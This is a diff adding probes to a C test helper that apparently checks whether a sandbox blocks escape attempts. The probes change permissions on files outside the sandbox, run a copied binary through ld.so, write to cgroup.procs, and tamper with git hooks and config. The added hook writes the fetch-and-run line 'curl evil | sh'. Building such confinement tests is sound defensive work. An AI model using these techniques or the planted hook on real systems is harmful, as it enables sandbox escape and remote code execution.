@@ -14,6 +14,7 @@
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
+#include <sys/xattr.h>
 #include <unistd.h>
 
 static const char* outside;
@@ -162,6 +163,38 @@ static int probe(const char* name) {
         waitpid(p, &st, 0);
         errno = WEXITSTATUS(st);
         return errno ? -1 : 0;
+    }
+    if (!strcmp(name, "chmod_outside")) return chmod(out("secret.txt"), 0777);
+    if (!strcmp(name, "chown_outside")) return chown(out("secret.txt"), getuid(), getgid());
+    if (!strcmp(name, "utimensat_outside")) return utimensat(AT_FDCWD, out("secret.txt"), NULL, 0);
+    if (!strcmp(name, "setxattr_outside")) return setxattr(out("secret.txt"), "user.pwned", "1", 1, 0);
+    if (!strcmp(name, "mkfifo_outside")) return mkfifo(out("fifo"), 0644);
+    if (!strcmp(name, "ldso_copied_binary")) {
+        pid_t p = fork();
+        if (p == 0) {
+            int null = open("/dev/null", O_WRONLY);
+            dup2(null, 2);
+            execl("/lib64/ld-linux-x86-64.so.2", "ld.so", "./true-copy", (char*)NULL);
+            _exit(100);
+        }
+        int st;
+        waitpid(p, &st, 0);
+        /* ld.so exits 127 when it cannot map the binary */
+        if (WIFEXITED(st) && WEXITSTATUS(st) == 0) return 0;
+        errno = EACCES;
+        return -1;
+    }
+    if (!strcmp(name, "write_protected_hook"))
+        return write_file(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n", O_CREAT | O_TRUNC);
+    if (!strcmp(name, "write_protected_config")) return write_file(".git/config", "[core]\nhooksPath=/x\n", O_APPEND);
+    if (!strcmp(name, "rename_protected_away")) return rename(".git/hooks", "hooks-gone");
+    if (!strcmp(name, "cgroup_procs")) {
+        int fd = open("/sys/fs/cgroup/unified/cgroup.procs", O_WRONLY);
+        if (fd < 0 && errno == ENOENT) fd = open("/sys/fs/cgroup/cgroup.procs", O_WRONLY);
+        if (fd < 0) return -1;
+        ssize_t n = write(fd, "0", 1);
+        close(fd);
+        return n == 1 ? 0 : -1;
     }
     fprintf(stderr, "unknown probe %s\n", name);
     exit(2);
